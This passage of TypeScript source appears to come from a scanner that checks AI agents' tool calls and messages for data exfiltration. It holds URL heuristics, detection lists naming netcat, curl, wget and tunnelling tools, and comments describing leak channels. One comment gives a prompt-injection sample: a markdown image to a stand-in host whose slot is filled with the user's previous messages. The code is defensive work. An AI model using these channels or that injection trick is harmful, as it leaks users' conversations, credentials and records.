    if (DATA_KEYS.test(key) && /[A-Za-z]/.test(value) && (kind !== "link" ? /\s/.test(value) || entropy(value) >= 3.5 : !/\s/.test(value) && entropy(value) >= 3.8)) return "data";
  }
  return null;
}

const CLIENT_ID_KEY = /^client[-_]?id$/i;
/** A vendor's production key by its own marker (`rk_live_…`, `chx_prod_…`), not a publishable one (`pk_live_…`). */
const LIVE_KEY = /^(?!pk_)[a-z]{2,6}_(?:live|prod)_[A-Za-z0-9]{16,64}$/;
/** Keys that name an API's key (not a password or a secret), and a value that is a domain name: letters, one dot or more. */
const API_KEY_NAME = /^(?:api_?key|apikey|access_?key|key)$/i;
const SITE_NAME = /^(?:[a-z][a-z-]{0,62}\.){1,6}[a-z]{2,24}$/i;

/** Whether a base64 or base64url value decodes to mostly printable text (encoded data, not a random id). */
function decodesToText(value: string): boolean {
  if (value.length > 4096) return true;
  const bytes = Buffer.from(value.replace(/-/g, "+").replace(/_/g, "/"), "base64");
  if (bytes.length === 0) return false;
  let printable = 0;
  for (const b of bytes) if ((b >= 32 && b < 127) || b === 9 || b === 10 || b === 13) printable++;
  return printable / bytes.length >= 0.8;
}

function parse(raw: string): URL | null {
  let url: URL;
  try {
    url = new URL(raw.startsWith("//") ? `https:${raw}` : raw);
  } catch {
    return null;
  }
  return url.protocol === "http:" || url.protocol === "https:" ? url : null;
}

const hostOf = (url: URL) => url.hostname.toLowerCase().replace(/^\[|\]$/g, "");

function judgeUrl(raw: string, kind: Kind, depth: number, lists: ExfiltrationLists): string | null {
  const url = parse(raw);
  if (url === null) return null;
  const host = hostOf(url);
  if (lists.collectors.some((re) => re.test(host))) {
    // A request to a collector, or an image or link to one carrying anything beyond its bare address.
    if (kind === "request" || url.search.length > 1 || url.hash.length > 1 || url.pathname.length > 1) return "a request collector";
  }
  if (lists.allow.some((re) => re.test(host))) {
    // An allowed host can still forward a URL in its query (badge endpoints, image proxies).
    for (const [, value] of url.searchParams) if (depth < 2 && ABSOLUTE.test(value)) return judgeUrl(value, kind, depth + 1, lists);
    return null;
  }
  // (Twenty-fifth round) The name as written too: base64 in a label keeps its case until the parser folds it.
  const written = writtenHost(raw);
  const dns = hostData(host) ?? (written !== null && written !== host && written.toLowerCase() === host ? hostData(written) : null);
  if (dns !== null) return dns;
  if (depth < 2) {
    // (Eighth round) A URL inside this one — a translation proxy, a redirector, an archive, a `?url=` wrapper — is
    // fetched by the host that serves this one: judged as a request of its own.
    const inner = embeddedUrl(url, host);
    if (inner !== null) {
      const nested = judgeUrl(inner, kind, depth + 1, lists);
      if (nested !== null) return nested;
    }
  }
  // (Eighth round) A DNS name in the query (DNS over HTTPS: `?name=`, a `?dns=` wire-format message, a lookup
  // tool's `?domain=`) is resolved: judged as a host name, as in a dig.
  const named = queriedName(url);
  if (named !== null) {
    const verdict = hostVerdict(named, lists);
    if (verdict !== null) return verdict;
  }
  if (presigned(url)) return null;
  // (Ninth round) A public renderer drawing a diagram that names nothing: renderers.ts.
  if (renderedDiagram(url, (text) => CREDENTIAL_TEXT.test(text) || /\bAKIA[0-9A-Z]{16}\b/.test(text))) return null;
  if (signedHere(url, host)) {
    // The rest of the URL is still judged (a logout's redirect target).
    const rest = new URL(url.href);
    for (const [k, v] of url.searchParams) if (v.startsWith("eyJ")) rest.searchParams.delete(k);
    return carriedData(rest, kind, depth, lists);
  }
  return carriedData(url, kind, depth, lists);
}

/**
 * A URL carried inside another: after the path (`/web/2024/https://…`, `/https://…`), as the whole query
 * (`/?https://…`), or in a Google-translated host (`a--b-example-com.translate.goog/p` is `a-b.example.com/p`). A URL
 * in a query value is judged by carriedData, piece by piece.
 */
function embeddedUrl(url: URL, host: string): string | null {
  const path = url.pathname;
  const at = path.search(/\/https?:\/{1,2}/i);
  if (at >= 0) {
    const inner = decode(path.slice(at + 1)).replace(/^(https?:)\/(?!\/)/i, "$1//");
    return inner + url.search;
  }
  if (/^\?https?(?::|%3A)/i.test(url.search)) return decode(url.search.slice(1));
  if (host.endsWith(".translate.goog")) {
    const label = host.slice(0, -".translate.goog".length);
    if (label.includes(".")) return null;
    const inner = label.replace(/--/g, "\u0000").replace(/-/g, ".").replace(/\u0000/g, "-");
    const q = new URLSearchParams(url.search);
    for (const k of [...q.keys()]) if (k.startsWith("_x_tr_")) q.delete(k);
    const search = q.toString();
    return `https://${inner}${path}${search ? `?${search}` : ""}`;
  }
  return null;
}

/** Query keys that hold a name to resolve (DNS over HTTPS, lookup services). */
const NAME_KEYS = /^(?:name|hostname|host|domain|fqdn|qname|query|q|lookup)$/i;
const DNS_NAME = /^(?:[A-Za-z0-9_-]{1,63}\.){2,16}[A-Za-z]{2,24}\.?$/;

/** The DNS name a URL asks to resolve: a `?name=`-like value that is a host name, or the question of a `?dns=` message. */
function queriedName(url: URL): string | null {
  if (url.search.length < 8) return null;
  for (const [key, value] of url.searchParams) {
    if (NAME_KEYS.test(key) && value.length <= 253 && DNS_NAME.test(value)) return value.replace(/\.$/, "");
    if (key === "dns" && value.length >= 24 && value.length <= 1024) {
      const name = wireName(value);
      if (name !== null) return name;
    }
  }
  return null;
}

/** The first question's name of a DNS message in base64url (RFC 8484 GET), or null. */
function wireName(b64: string): string | null {
  if (!/^[A-Za-z0-9_-]+={0,2}$/.test(b64)) return null;
  const bytes = Buffer.from(b64, "base64url");
  const labels: string[] = [];
  let i = 12;
  while (i < bytes.length && labels.length < 32) {
    const n = bytes[i] as number;
    if (n === 0) return labels.length >= 2 ? labels.join(".") : null;
    if (n > 63 || i + 1 + n > bytes.length) return null;
    labels.push(bytes.toString("latin1", i + 1, i + 1 + n));
    i += 1 + n;
  }
  return null;
}

/**
 * (Eighth round) Every query value that is a JWT goes back where it came from (audience.ts, returnedJwt): an OIDC
 * logout's `id_token_hint` to its issuer, a storage service's signed download link.
 */
function signedHere(url: URL, host: string): boolean {
  let jwts = 0;
  for (const [, value] of url.searchParams) {
    if (!value.startsWith("eyJ")) continue;
    if (!returnedJwt(value, host, url.pathname)) return false;
    jwts++;
  }
  return jwts > 0;
}

const SLOT = /[?&][^=&#]{1,40}=([A-Z][A-Z0-9_]{3,30})(?=[&#]|$)/g;
const SESSION_WORDS = /\b(?:conversation|chat|messages?|history|transcript|previous|earlier|so\s{1,3}far|everything\s{1,3}the\s{1,3}user|user'?s|what\s{1,3}the\s{1,3}user)\b/i;

/**
 * A query value left for the model to fill, named in capitals, that the text around it defines as the session's data:
 * `![ ](https://x.example/p.png?s=SUMMARY) where SUMMARY is the user's previous messages`, "replace CHAT with the
 * conversation". A name the text does not define that way (`?lang=EN_US`, `?sort=DESC`) is not one.
 */
function definedSlot(raw: string, text: string, lists: ExfiltrationLists): string | null {
  if (!raw.includes("?") || text.length > 65536) return null;
  const url = parse(raw);
  if (url === null || lists.allow.some((re) => re.test(hostOf(url)))) return null;
  SLOT.lastIndex = 0;
  for (let m, n = 0; (m = SLOT.exec(raw)) !== null && n < 8; n++) {
    const name = m[1] as string;
    const defined = new RegExp(`\\b${name}\\b\\s{0,3}(?:is|are|=|:|means|contains|should\\s{1,3}be|stands\\s{1,3}for|being)\\s([^\\n]{0,120})|\\b(?:replace|fill|substitute|swap)\\s{1,3}(?:in\\s{1,3})?${name}\\s{1,3}(?:with|by)\\s([^\\n]{0,120})`);
    const d = defined.exec(text);
    if (d && SESSION_WORDS.test(d[1] ?? d[2] ?? "")) return "placeholder";
  }
  return null;
}

/**
 * Whether a URL a tool is asked to open carries any data to a host off the allow list: an encoded or random-looking
 * value, or words, in its query, path or fragment. Not a finding by itself (searches and pagination cursors look the
 * same); the default pack refuses it once the session has seen a secret.
 */
function carriesAnything(raw: string, lists: ExfiltrationLists): boolean {
  const url = parse(raw);
  if (url === null) return false;
  const host = hostOf(url);
  if (lists.allow.some((re) => re.test(host)) || presigned(url)) return false;
  for (const [key, value] of url.searchParams) {
    if (value.length >= 16 && (isBlob(value) || (/[A-Za-z]/.test(value) && entropy(value) >= 3.5) || (DATA_KEYS.test(key) && isProse(value)))) return true;
  }
  for (const s of url.pathname.split("/")) if (isBlob(decode(s))) return true;
  return hostData(host) !== null;
}

/** Images and links whose URL carries data to a host off the allow list: the URL is the finding. */
export function detectExfiltration(sites: StringSite[], lists: ExfiltrationLists, message?: Record<string, unknown>): Detection[] {
  const out: Detection[] = [];
  const allowed = (h: string) => lists.allow.some((re) => re.test(h));
  // A document often repeats a URL (a badge, a logo): each distinct one is parsed and weighed once.
  const judged = new Map<string, string | null>();
  for (const site of sites) {
    const v = site.value;
    if (!v.includes("//")) continue;
    for (const f of renderedUrls(v)) {
      const url = v.slice(f.start, f.end);
      const key = f.kind + url;
      let verdict = judged.get(key);
      if (verdict === undefined) {
        verdict = judgeUrl(url, f.kind, 0, lists) ?? definedSlot(url, v, lists);
        judged.set(key, verdict);
      }
      if (verdict === null) continue;
      const last = out[out.length - 1];
      if (last && last.path === site.path && last.start < f.end && f.start < last.end) continue;
      out.push({ type: `exfiltration.${f.kind}`, path: site.path, start: f.start, end: f.end });
    }
  }
  if (message === undefined || !("method" in message)) {
    addApart(out, foreignSlots(sites, lists));
    // (Twelfth round) A link to fill with private data and open, handed back (exfil-sinks.ts).
    addApart(out, linkTemplates(sites, allowed));
    // (Thirteenth round) An order to send private data in bulk, or secrets, to an address (exfil-hosted.ts).
    addApart(out, dataOrders(sites, allowed, localHost).map((d) => ({ type: "exfiltration.link", path: d.path, start: d.start, end: d.end, detail: "an order to send private data to an address" })));
    // (Twenty-fifth round) A name the reader is asked to resolve whose labels carry data (exfil-beacons.ts).
    addApart(out, askedLookups(sites, (h) => hostVerdict(h, lists)).map((d) => ({ type: "exfiltration.dns", ...d })));
  }
  if (message !== undefined) {
    for (const r of requestedUrls(sites, message)) {
      const toolCall = TOOL_CALLS.has(message.method as string);
      const verdict = r.host ? hostVerdict(r.url, lists) : judgeUrl(r.url, "request", 0, lists) ?? toTunnel(r, sites, lists, toolCall) ?? toRelay(r, sites, lists, toolCall) ?? toMessageEndpoint(r, sites, lists, toolCall) ?? toPhoneGateway(r, sites, toolCall) ?? carriedPayload(r, sites, lists, toolCall) ?? (toolCall ? null : linkedCredential(r.url, lists));
      if (verdict === null) continue;
      if (out.some((d) => d.path === r.site.path && d.start < r.end && r.start < d.end)) continue;
      out.push({ type: r.host ? "exfiltration.dns" : "exfiltration.request", path: r.site.path, start: r.start, end: r.end, detail: `the URL carries ${verdict}` });
    }
    addApart(out, channels(sites, message, lists));
    // (Tenth round) A file that should not leave, handed to a call that uploads or mails it (exfil-payloads.ts).
    if (TOOL_CALLS.has(message.method as string) && "id" in message) {
      const named = (message.params as { name?: unknown } | undefined)?.name;
      const tool = typeof named === "string" ? named : "";
      const args = (message.params as { arguments?: unknown } | undefined)?.arguments;
      addApart(out, sentFiles(sites, allowed, tool));
      // (Eleventh round) Data marked internal, or people's records, published by the call (exfil-public.ts).
      addApart(out, madePublic(args));
      // (Twelfth round) Credentials, or people's records to a personal mailbox, in an e-mail's body (exfil-sinks.ts).
      addApart(out, mailedSecrets(sites));
      addApart(out, secretFileUploads(sites, allowed));
      // (Fourteenth round) The whole environment sent by code, data cut into DNS lookups (exfil-code.ts).
      addApart(out, environmentSent(sites, localHost, allowed));
      addApart(out, chunkedLookups(sites));
      // (Fifteenth round) Credentials or access codes in what an SMS or a push tool sends (exfil-messages.ts).
      addApart(out, phoneMessages(sites, tool));
      addApart(out, rootDrops(sites, localHost, allowed));
      // (Fifteenth round) Logs, flows or mirrored traffic sent to a public address (exfil-forwarding.ts).
      addApart(out, forwardedOutside(sites));
      // (Twenty-third round) Data pushed to a remote the call names, made public, or put on anonymous FTP (exfil-remotes.ts).
      addApart(out, pushedDataIn(sites));
      addApart(out, openedPlaces(tool, args, sites));
      // (Twenty-fifth round) A list of records to a messenger bot or webhook, or to a personal mailbox (exfil-records.ts).
      addApart(out, outsideRecords(sites, tool, args));
      // (Twenty-sixth round) A repository pushed whole, or to a copy, on a forge account the call names (exfil-copies.ts).
      addApart(out, copiedRepositories(sites, tool, args));
      // (Twenty-sixth round) Keypad codes, logins, keys sent to a messenger, a text message or a personal mailbox (exfil-codes.ts).
      addApart(out, outsideCodes(sites, tool));
      // (exf27) A report of figures, or a data file named, sent to a messenger bot or webhook (exfil-figures.ts).
      addApart(out, outsideFigures(sites));
      // (exf29) Payment cards, a contact list, records sent to a messenger bot, webhook or chat (exfil-cards.ts).
      addApart(out, outsideCards(sites, tool));
      // (exf30) Records declared in bulk ("attached all 412 customers") in an e-mail to a personal mailbox (exfil-personal-bulk.ts).
      addApart(out, personalBulk(sites));
    }
    // (Twelfth round) An account's credential in a data part sent to another agent (exfil-sinks.ts).
    if (A2A_SENDS.has(message.method as string)) {
      addApart(out, sentCredentials(sites));
      // (Twelfth round) Another agent asked to put what the message carries on a public paste site or drop.
      addApart(out, namedDrop(sites, (h) => lists.tunnels.some((re) => re.test(h)) && !allowed(h), (t) => sensitivePayload(t)));
      // (exf26b) A credential in an address handed to the other agent, a service's key as a push token (exfil-agent-links.ts).
      addApart(out, agentLinkCredentials(sites, message, allowed));
    }
  }
  return out;
}

/**
 * (Tenth round, exfil-payloads.ts) What a request carries where its host alone says nothing: a drop (a tunnel, a
 * paste site) or a data store (Airtable, Sheets, Notion, analytics ingestion…) handed credentials, payment details, a
 * one-time code or confidential text in a payload too short for toTunnel's size test; and any URL off the allow list
 * stating a password, an identity number or a card in its path or query.
 */
function carriedPayload(r: Requested, sites: StringSite[], lists: ExfiltrationLists, toolCall: boolean): string | null {
  const url = parse(r.url);
  if (url === null) return null;
  const host = hostOf(url);
  const stated = urlStatesData(r.url, (h) => lists.allow.some((re) => re.test(h)));
  if (stated !== null) return stated;
  // (Eleventh round) Encoded text or records, or a person's record, in the query or the path (exfil-query.ts).
  // A public renderer drawing a diagram (renderers.ts) is handed its source encoded, as judgeUrl lets it.
  const carried = queryCarriesData(url, (h) => lists.allow.some((re) => re.test(h)));
  if (carried !== null && !renderedDiagram(url, (text) => CREDENTIAL_TEXT.test(text) || /\bAKIA[0-9A-Z]{16}\b/.test(text))) return carried;
  // (Twelfth round) A conversation, a diary or a calendar's entries as prose under a key that names them (exfil-sinks.ts).
  if (!lists.allow.some((re) => re.test(host)) && !localHost(host)) {
    const session = sessionInQuery(url);
    if (session !== null) return session;
  }
  if (!toolCall || lists.allow.some((re) => re.test(host))) return null;
  const drop = lists.tunnels.some((re) => re.test(host));
  // (Thirteenth round) A tenant's endpoint on a hosting platform or a public inbox, judged as a store (exfil-hosted.ts).
  const hosted = !drop && hostedEndpoint(host, url.pathname);
  // (Thirteenth round) A paste site judged by what is pasted: a log passes, a data file or people's records do not.
  const paste = !drop && !hosted && pasteSite(host);
  if (!drop && !hosted && !paste && !isStore(host, url.pathname)) return null;
  const where = drop || paste ? "a drop" : hosted ? "a hosted endpoint anybody may own" : "a data store";
  if (paste && r.start > 0) {
    const file = pastedFile(r.site.value);
    if (file !== null && DATA_FILE.test(file)) return `a data file (${file}) to a drop`;
  }
  const judge = (text: string) => {
    const what = sensitivePayload(text) ?? (drop || paste ? personalPayload(text, true) : null);
    // A store is filled with people's rows by design: only credentials, payment details, codes and confidential text count.
    return what !== null && (drop || paste || /credentials|payment|confidential|one-time/.test(what)) ? what : null;
  };
  if (hosted) {
    // What a push or an inbox is handed in its path and query (`/<device key>/<title>/<body>`).
    const what = judge(url.pathname + " " + url.search);
    if (what) return `${what} to ${where}`;
    // (Eighteenth round) A vendor's live key (`xx_live_…`; a publishable `pk_` is public) is the vendor's to receive:
    // a tenant's page on a hosting platform is not the vendor's API.
    let n = 0;
    for (const [, value] of url.searchParams) if (++n <= 64 && LIVE_KEY.test(value)) return `a live key to ${where}`;
  }
  const v = r.site.value;
  if (r.start > 0 || r.end < v.length) {
    // (Sixteenth round) The request's own Authorization header is the service's key, not what it is handed.
    const what = judge(withoutAuthHeaders(withoutSpan(v, r.start, r.end)));
    if (what) return `${what} to ${where}`;
  }
  for (const site of sites) {
    if (site === r.site || site.path[0] !== "params" || site.path[1] !== "arguments" || site.path.includes("headers")) continue;
    const what = judge(site.value);
    if (what) return `${what} to ${where}`;
    // (Sixteenth round) A data file handed by reference to a drop or a paste site (exfil-senders.ts).
    const file = drop || paste ? handedDataFile(site.value, site.path[site.path.length - 1]) : null;
    if (file) return `a data file (${file}) to ${where}`;
  }
  return null;
}

/** Adds the findings that overlap none already in `out` (in the same string). */
function addApart(out: Detection[], found: readonly Detection[]): void {
  for (const d of found) if (!out.some((x) => x.path === d.path && x.start < d.end && d.start < x.end)) out.push(d);
}

const CHANNEL_IDS = ["$", "`", "%", "ping", "--no-sign", "push", "nc"].map(literalId);
/** (Ninth round) What exfil-outlets.ts's families need: its own gates decide the rest. */
const OUTLET_IDS = ["-R", "--to", "ngrok", "cloudflared", "expose", "zrok", "loclx", "lt ", "env", "set)", "export -p", "smtp", "mqtt", "--acl", "--grants", " -a ", "croc", "wormhole", "ffsend", "transferwee", "megaput", "mega-put", "ipfs", "w3 ", "mail", "mutt", "swaks", "msmtp", "snapshot-attribute", "pktriot", " tcp ", " tls "].map(literalId);

/**
 * (Eighth round) Channels out in a command line a tool or an agent is asked to run (exfil-channels.ts): a command's
 * output in a host name, text in ICMP padding, an unsigned upload to a bucket, a repository pushed whole to a new
 * remote on an unknown host, a pipe into netcat to a paste site; and a destination argument naming a bucket with
 * unsigned requests.
 */
function channels(sites: StringSite[], message: Record<string, unknown>, lists: ExfiltrationLists): Detection[] {
  const method = message.method;
  if (typeof method !== "string" || !("id" in message) || (!TOOL_CALLS.has(method) && !A2A_SENDS.has(method))) return [];
  // (The prefilter sees values, not argument names: the argument checks below run whatever it says.)
  const lits = literalsOf(sites);
  const lines = lits === null || lits.any(CHANNEL_IDS);
  const outlets = !lines && lits.any(OUTLET_IDS);
  const ctx: ChannelContext = {
    hostVerdict: (h) => hostVerdict(h, lists),
    allowed: (h) => lists.allow.some((re) => re.test(h.toLowerCase())),
    drop: (h) => lists.tunnels.some((re) => re.test(h.toLowerCase())),
  };
  const out: Detection[] = [];
  for (const site of sites) {
    if (site.path[0] !== "params" || site.path.includes("_meta") || site.encoded !== undefined) continue;
    const key = site.path[site.path.length - 1];
    // A network tool's padding argument spelling text, next to a host to send it to: `{host, pattern: "<hex>"}`.
    if (typeof key === "string" && /^(?:pattern|padding|pad|fill|payload_?pattern)$/i.test(key) && paddingText(site.value.trim()) && sites.some((x) => x.path[0] === "params" && x.path.length === site.path.length && /^(?:host|hostname|target|address|ip|dest|destination)$/i.test(String(x.path[x.path.length - 1])))) {
      out.push({ type: "exfiltration.request", path: site.path, start: 0, end: site.value.length, detail: "text in ICMP padding" });
      continue;
    }
    if (typeof key === "string" && unsignedDestination(key, site.value)) {
      out.push({ type: "exfiltration.request", path: site.path, start: 0, end: site.value.length, detail: "an unsigned upload to a bucket anybody may write to" });
      continue;
    }
    if (lines || outlets) for (const f of lines ? commandChannels(site.value, ctx) : [...commandOutlets(site.value, ctx), ...commandSenders(site.value)]) out.push({ type: "exfiltration.request", path: site.path, start: f.start, end: f.end, detail: f.detail });
  }
  // (Seventeenth round) A tool named for a program given its words as arguments (`git` with `args: ["push", "--mirror",
  // URL]`) runs the same command line as a shell would: judged as one.
  if ((lines || outlets) && TOOL_CALLS.has(method)) {
    const argv = programArgv(sites, (message.params as { name?: unknown } | undefined)?.name);
    if (argv !== null && !out.some((d) => argv.sites.some((x) => x.path === d.path))) {
      const found = lines ? commandChannels(argv.line, ctx) : [...commandOutlets(argv.line, ctx), ...commandSenders(argv.line)];
      const first = found[0];
      if (first !== undefined) {
        const at = argv.sites.find((x, i) => first.start < (argv.ends[i] as number)) ?? (argv.sites[0] as StringSite);
        out.push({ type: "exfiltration.request", path: at.path, start: 0, end: at.value.length, detail: first.detail });
      }
    }
  }
  return out;
}

/** A tool's name that is a program's (`git`, `rclone`, `run_git`, `aws_cli`), and the arguments that hold its words. */
const PROGRAM_TOOL = /^(?:run_|exec_)?([a-z][a-z0-9-]{1,20}?)(?:_cli|_command|_cmd|_exec)?$/;
const SHELL_TOOLS = new Set(["command", "commands", "shell", "bash", "sh", "zsh", "fish", "terminal", "cmd", "powershell", "pwsh", "exec", "run", "script", "process", "console", "python", "node", "code"]);
const ARGV_KEYS = /^(?:args|argv|arguments|command|cmd|subcommand|params|parameters)$/i;

/**
 * The command line a program's tool runs: its name, then the words of its argv argument (an array, or a string not
 * already starting with the name), each ending offset kept to map a finding back to its argument. Null when the tool
 * is not named for a program or no argument holds words.
 */
function programArgv(sites: StringSite[], tool: unknown): { line: string; sites: StringSite[]; ends: number[] } | null {
  if (typeof tool !== "string" || tool.length > 40) return null;
  const name = PROGRAM_TOOL.exec(tool)?.[1];
  // A shell's tool (`run_command`, `bash`, `terminal`) is given whole lines, judged as they are.
  if (name === undefined || SHELL_TOOLS.has(name)) return null;
  const words: StringSite[] = [];
  for (const site of sites) {
    if (site.path[0] !== "params" || site.path[1] !== "arguments" || site.path.length > 4 || typeof site.path[2] !== "string" || !ARGV_KEYS.test(site.path[2])) continue;
    if (site.path.length === 3 && new RegExp(`^\\s*${name}\\b`).test(site.value)) return null;
    if (words.length < 64) words.push(site);
  }
  if (words.length === 0) return null;
  let line = name;
  const ends: number[] = [];
  for (const w of words) {
    line += " " + (/\s/.test(w.value) && words.length > 1 ? `'${w.value.replace(/'/g, "")}'` : w.value);
    ends.push(line.length);
  }
  return line.length <= 65536 ? { line, sites: words, ends } : null;
}

/** A placeholder for a service's credential: `<VERCEL_TOKEN>`, `{{GITHUB_PAT}}`, `${STRIPE_SECRET_KEY}`, `$AWS_SECRET_ACCESS_KEY`. */
const SERVICE_SLOT = /(?:<|\{\{?|\$\{?|\[)([A-Z][A-Z0-9]{1,20})_(?:[A-Z0-9]{1,20}_){0,3}(?:TOKEN|KEY|SECRET|PASSWORD|PASS|PAT|CREDENTIALS?)(?![A-Za-z0-9_])/g;
/** First words of a placeholder that name no service (`<YOUR_API_KEY>`, `{API_TOKEN}`). */
const NO_SERVICE = /^(?:YOUR|MY|API|ACCESS|SECRET|AUTH|BEARER|CLIENT|APP|USER|PRIVATE|PUBLIC|SESSION|REFRESH|ID|THE|PERSONAL|SERVICE|MASTER|ADMIN|DB|DATABASE|ENCRYPTION|SIGNING|WEBHOOK|LICENSE|ENV|PROD|DEV|TEST|STAGING)$/;
/** Services whose hosts are not spelled as their placeholders are. */
const SERVICE_ALIASES: Record<string, string> = { aws: "amazonaws", azure: "windowsnet", gcp: "google", gcloud: "google", gh: "github", gl: "gitlab", hf: "huggingface", cf: "cloudflare", do: "digitalocean" };
/** What every credential placeholder holds: a literal search, before the placeholder regex runs over a long string. */
const SLOT_WORD = /_(?:TOKEN|KEY|SECRET|PASS|PAT|CREDENTIAL)/;
const SLOT_IDS = ["_token", "_key", "_secret", "_pass", "_pat", "_credential"].map(literalId);

/**
 * (Eighth round) A bare URL in what a server or an agent sends back, whose query or path is left for a credential of a
 * named service (`https://diag.example/t?vt=<VERCEL_TOKEN>`) while the URL's host is not that service's: the reader
 * is asked to put a token where it does not go. Documentation's own examples — `<YOUR_API_KEY>`, a service's
 * placeholder in that service's URL (`api.github.com/…?access_token=<GITHUB_TOKEN>`) — pass. Rendered links and images
 * are judged as before (placeholders are findings there).
 */
function foreignSlots(sites: StringSite[], lists: ExfiltrationLists): Detection[] {
  const lits = literalsOf(sites);
  if (lits !== null && !lits.any(SLOT_IDS)) return [];
  const out: Detection[] = [];
  for (const site of sites) {
    const v = site.value;
    // (The `_` searched for first: a memchr, where the expression's scan of a megabyte without one cost 0.15 ms.)
    if (v.length > 1_048_576 || !v.includes("://") || !v.includes("_") || !SLOT_WORD.test(v)) continue;
    SERVICE_SLOT.lastIndex = 0;
    for (let m, n = 0; (m = SERVICE_SLOT.exec(v)) !== null && n < 64; n++) {
      const service = (m[1] as string).toLowerCase();
      if (NO_SERVICE.test(m[1] as string)) continue;
      // The URL the placeholder sits in: no blank between it and a scheme at most 2 KB before.
      const from = Math.max(0, m.index - 2048);
      const scheme = v.lastIndexOf("://", m.index);
      if (scheme < from) continue;
      if (/[\s"'`]/.test(v.slice(scheme, m.index))) continue;
      let start = scheme;
      while (start > 0 && /[a-z]/i.test(v[start - 1] as string)) start--;
      if (!/^https?$/i.test(v.slice(start, scheme))) continue;
      const hostEnd = v.slice(scheme + 3, m.index).search(/[/?#]/);
      if (hostEnd < 0) continue;
      const host = v.slice(scheme + 3, scheme + 3 + hostEnd).replace(/^[^@]*@/, "").replace(/:\d+$/, "").toLowerCase();
      // A template host (`https://<ACCOUNT>.blob.core.windows.net/?<AZURE_SAS_TOKEN>`) is documentation.
      if (/[<>{}$[\]%]/.test(host)) continue;
      const flat = host.replace(/[^a-z0-9]/g, "");
      if (flat.includes(SERVICE_ALIASES[service] ?? service) || flat.includes(service) || lists.allow.some((re) => re.test(host))) continue;
      let end = m.index + m[0].length;
      while (end < v.length && end < m.index + 2048 && !/[\s"'`]/.test(v[end] as string)) end++;
      out.push({ type: "exfiltration.link", path: site.path, start, end: v[end - 1] === "." ? end - 1 : end, detail: "a placeholder for another service's credential" });
      SERVICE_SLOT.lastIndex = end;
    }
  }
  return out;
}

/** URLs a tool is asked to open that carry any data off the allow list (see carriesAnything): for flow rules. */
export function detectUrlData(sites: StringSite[], lists: ExfiltrationLists, message: Record<string, unknown>): Detection[] {
  const out: Detection[] = [];
  for (const r of requestedUrls(sites, message)) {
    if (r.host ? hostData(r.url.toLowerCase()) !== null : carriesAnything(r.url, lists)) out.push({ type: "url_data", path: r.site.path, start: r.start, end: r.end });
  }
  return out;
}

/** Options of curl and wget that send a file or standard input (`@file`, and curl's `-F f=<file`), and a pipe into one. */
const UPLOAD = /(?:^|\s)(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-[A-Za-z]{0,4}F|--form|-T|--upload-file|--post-file|--body-file)(?:\s+|=)['"]?[^\s'"]{0,40}[@<]|(?:^|\s)(?:-T|--upload-file|--post-file|--body-file)(?:\s+|=)\S|\|\s{0,8}(?:curl|wget|nc|ncat|http)\b/;
/** Arguments that name a local file a tool sends. */
const FILE_ARG = /^(?:path|paths|file|files|file_?path|file_?name|filename|local_?(?:path|file)|source|src|attachment|attachments)$/i;
const TOKEN_RUN = /[A-Za-z0-9_-]{24,256}/g;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** A random-looking run of 24 characters or more (three classes, high entropy): a token or a cookie, not a word or a UUID. */
function randomToken(v: string): boolean {
  if (v.length < 24 || v.length > 65536) return false;
  TOKEN_RUN.lastIndex = 0;
  for (let m, n = 0; (m = TOKEN_RUN.exec(v)) !== null && n < 32; n++) {
    const t = m[0];
    if (UUID.test(t) || !/[a-z]/.test(t) || !/[A-Z]/.test(t) || !/[0-9]/.test(t)) continue;
    if (entropy(t) >= 4.0) return true;
  }
  return false;
}

/** A payload of some size: an argument (or a command's `-d` value) of 200 characters or three lines and more. */
const PAYLOAD_LENGTH = 200;

/**
 * A request to a tunnel or a file drop that carries data: in its URL, or as a payload of the call (another argument
 * of some size or of encoded data; in a command line, an upload or a pipe into the request, or a long `-d` value).
 * In an A2A message, the URL of a file part or a push-notification config is judged by what it carries alone.
 */
/** A path segment that is a login pair: a name, a colon, a value with a letter and a digit, and a symbol or both cases. */
const LOGIN_SEGMENT = /^[A-Za-z][\w.@-]{1,40}:(?=[^:\s]{0,64}\d)(?=[^:\s]{0,64}[A-Za-z])(?=[^:\s]{0,64}(?:[!@#$%^&*?~]|[a-z][^:\s]{0,64}[A-Z]|[A-Z][^:\s]{0,64}[a-z]))[^:\s/]{6,64}$/;

function toTunnel(r: Requested, sites: StringSite[], lists: ExfiltrationLists, toolCall: boolean): string | null {
  const url = parse(r.url);
  if (url === null || !lists.tunnels.some((re) => re.test(hostOf(url)))) return null;
  if (carriesAnything(r.url, lists)) return "data to a tunnel or a file drop";
  // (Sixteenth round) A login pair as a page of a public notepad or a drop: `/ops-notes/vpn.admin:Kestrel-Vault-88!`.
  if (url.pathname.length <= 2048 && url.pathname.split("/").some((seg) => LOGIN_SEGMENT.test(decode(seg)))) return "a login pair to a tunnel or a file drop";
  // Another agent is sent the message, not the tunnel: a push-notification URL is where the client is called back.
  if (!toolCall) return null;
  // (Fourteenth round) A stack trace or an error log pasted for a bug report, with nothing in it (exfil-handed.ts).
  if (pasteHost(hostOf(url)) && r.start === 0 && r.end === r.site.value.length && pastedLog(sites, r.site)) return null;
  const v = r.site.value;
  if (r.start > 0 || r.end < v.length) {
    // A command line (or a text) holding the URL: what it hands the request.
    // (Tenth round) One curl sending a recording or a picture the user shares is not a payload (exfil-media.ts).
    if ((UPLOAD.test(v) && !mediaUploadOnly(v)) || v.length - (r.end - r.start) >= PAYLOAD_LENGTH * 2) return "a payload to a tunnel or a file drop";
  }
  for (const site of sites) {
    if (site === r.site || site.path[0] !== "params" || site.path.includes("_meta")) continue;
    const w = site.value;
    if (w.length >= PAYLOAD_LENGTH || (w.length >= 32 && isBlob(w)) || w.split("\n", 4).length >= 4) return "a payload to a tunnel or a file drop";
    // (Twenty-second round) A short dataset: a table's rows, or a statement of an export (exfil-dataset.ts).
    const dataset = site.path.includes("arguments") ? datasetIn(w) : null;
    if (dataset !== null) return `${dataset} to a tunnel or a file drop`;
    // A local file handed to the request (an upload tool's `path`), or a random-looking value (a token, a session
    // cookie) in the payload: data, as it would be in the URL.
    const key = site.path[site.path.length - 1];
    // (Seventeenth round) A file its own folder publishes (`…/public/…`, `press/`, `published/`) is meant to be shared.
